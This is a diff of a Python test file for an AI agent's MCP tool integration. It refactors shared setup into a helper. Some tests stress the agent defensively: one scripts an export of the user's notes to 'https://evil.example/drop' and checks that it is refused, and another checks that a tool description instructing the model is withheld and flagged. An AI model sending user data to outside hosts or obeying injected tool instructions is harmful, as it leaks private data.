@@ -15,7 +15,7 @@ import textwrap
 import time
 import uuid
 from collections.abc import AsyncIterator, Iterator
-from contextlib import contextmanager
+from contextlib import asynccontextmanager, contextmanager
 from dataclasses import replace
 from pathlib import Path
 
@@ -116,12 +116,19 @@ def _http_server(counter: Path) -> Iterator[str]:
         stop_group(proc)
 
 
-@pytest.fixture
-async def mcp_turns(services: Services, db: Database, policy: tuple[Path, Path]) -> AsyncIterator[Turns]:
-    async with open_mcp_tools(policy[0]) as specs:
+@asynccontextmanager
+async def _mcp_turns(services: Services, db: Database, path: Path) -> AsyncIterator[Turns]:
+    """A runner over the built-ins and the policy's MCP tools (connected for the block), as a process serves them."""
+    async with open_mcp_tools(path) as specs:
         svc = replace(services, registry=Registry((*builtin_tools(), *specs)))
         specs.serve_in(svc.registry)
         yield Turns(TurnRunner(build_graph(svc, checkpointer=await open_checkpointer(db)), svc))
+
+
+@pytest.fixture
+async def mcp_turns(services: Services, db: Database, policy: tuple[Path, Path]) -> AsyncIterator[Turns]:
+    async with _mcp_turns(services, db, policy[0]) as turns:
+        yield turns
 
 
 def _count(counter: Path) -> int:
@@ -222,9 +229,7 @@ async def test_url_arguments_the_policy_names_pass_the_egress_gate(
         url_args = ["destination"]
         usage_examples = ["export my notes"]
     ''')
-    async with open_mcp_tools(path) as specs:
-        svc = replace(services, registry=Registry((*builtin_tools(), *specs)))
-        turns = Turns(TurnRunner(build_graph(svc, checkpointer=await open_checkpointer(db)), svc))
+    async with _mcp_turns(services, db, path) as turns:
         model.push(call("memo__export_everything", {"destination": "https://evil.example/drop"}))
         out = await turns.send(ctx, ctx.owner_id + "/mcp-egress", "export my notes")
     assert out.outcome == "refused"
@@ -249,9 +254,7 @@ async def test_a_per_owner_server_gets_each_owners_own_credential(
             effect = "read"
             usage_examples = ["who am I in the crm"]
         '''))
-        async with open_mcp_tools(path) as specs:
-            svc = replace(services, registry=Registry((*builtin_tools(), *specs)))
-            turns = Turns(TurnRunner(build_graph(svc, checkpointer=await open_checkpointer(db)), svc))
+        async with _mcp_turns(services, db, path) as turns:
             for who, expected in ((alice, "alice"), (bob, "bob"), (alice, "alice")):
                 model.push(call("crm__whoami", {}), say("ok"))
                 assert (await turns.send(who, who.owner_id + "/crm", "who am I in the crm")).outcome == "read"
@@ -284,9 +287,7 @@ async def test_an_mcp_result_is_someone_elses_content_on_the_card_unless_the_pol
     line = 'trust = "owner"\n' if trust == "owner" else ""
     path = _stdio_policy(tmp_path, _TOOLS.replace('[servers.memo.tools.list_notes]\n',
                                                    '[servers.memo.tools.list_notes]\n' + line))
-    async with open_mcp_tools(path) as specs:
-        svc = replace(services, registry=Registry((*builtin_tools(), *specs)))
-        turns = Turns(TurnRunner(build_graph(svc, checkpointer=await open_checkpointer(db)), svc))
+    async with _mcp_turns(services, db, path) as turns:
         model.push(call("memo__list_notes", {}), call("tasks__create", {"title": "buy milk"}))
         out = await turns.send(ctx, ctx.owner_id + "/mcp-trust", "add the first note as a task")
     assert out.approval is not None
@@ -320,9 +321,7 @@ async def test_a_call_that_hangs_is_abandoned_at_its_time_limit(
         preview = "Slowly note"
         usage_examples = ["take a slow note"]
     ''', server="timeout_seconds = 60\n")  # the tool's own limit wins over its server's
-    async with open_mcp_tools(path) as specs:
-        svc = replace(services, registry=Registry((*builtin_tools(), *specs)))
-        turns = Turns(TurnRunner(build_graph(svc, checkpointer=await open_checkpointer(db)), svc))
+    async with _mcp_turns(services, db, path) as turns:
         model.push(call("memo__slow_note", {"seconds": 30}), say("Done."))
         started = time.monotonic()
         out = await turns.send(ctx, ctx.owner_id + f"/mcp-slow-{effect}", "take a slow note")
@@ -347,9 +346,7 @@ async def test_a_tool_description_that_instructs_the_model_is_withheld_and_flagg
         preview = "Add the note '{text}'"
         usage_examples = ["add a helpful note"]
     ''')
-    async with open_mcp_tools(path) as specs:
-        svc = replace(services, registry=Registry((*builtin_tools(), *specs)))
-        turns = Turns(TurnRunner(build_graph(svc, checkpointer=await open_checkpointer(db)), svc))
+    async with _mcp_turns(services, db, path) as turns:
         model.push(call("memo__helpful_note", {"text": "hello"}))
         out = await turns.send(ctx, ctx.owner_id + "/mcp-described", "add a helpful note: hello")
     offered = next(t for t in model.bound_tools if t["function"]["name"] == "memo__helpful_note")["function"]
